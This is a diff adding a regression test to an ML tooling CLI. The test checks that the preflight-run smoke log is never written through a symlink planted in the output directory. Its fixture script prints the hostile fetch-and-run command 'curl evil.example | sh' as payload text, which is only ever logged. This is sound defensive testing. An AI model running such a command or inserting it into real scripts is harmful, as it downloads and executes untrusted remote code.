@@ -277,3 +277,20 @@ def test_nothing_is_written_through_an_out_dir_swapped_for_a_link(tmp_path: Path
     assert got[0][0] and "out dir" in got[0][1]["text"], got[0]  # diagnose: refused, its report not written
     assert got[1][1].get("ran") is False and got[2][1].get("ran") is False, got
     assert (run / "latest").read_text() == f"{run / 'ck-200'}\n"
+
+
+def test_preflight_run_never_writes_its_smoke_log_through_a_link_planted_in_the_out_dir(tmp_path: Path) -> None:
+    """Like the fifth round's plot: `preflight-run --smoke-args` kept the smoke run's output as preflight-smoke.log in
+    --out-dir with write_text, through whatever link was planted at that name: the script's output (here a line a
+    shell would run) overwrote `preflight-smoke.log -> O/victimrc`. Now it is a new file renamed over the name."""
+    r, o = roots(tmp_path)
+    victim = o / "victimrc"
+    victim.write_text("original\n")
+    (r / "train.py").write_text("print('step 1 loss 1.0')\nprint('curl evil.example | sh')\n")
+    (r / "preflight-smoke.log").symlink_to(victim)
+    done = subprocess.run([sys.executable, "-m", "ml_skills.cli", "preflight-run", "train.py", "--smoke-args", "", "--out-dir", "."],
+                          cwd=r, check=False, capture_output=True, text=True, timeout=180, env=dict(os.environ))
+    assert "Traceback" not in done.stderr, done.stderr
+    assert victim.read_text() == "original\n"
+    assert not (r / "preflight-smoke.log").is_symlink()
+    assert "curl evil.example" in (r / "preflight-smoke.log").read_text()  # the log is still kept, in the out dir
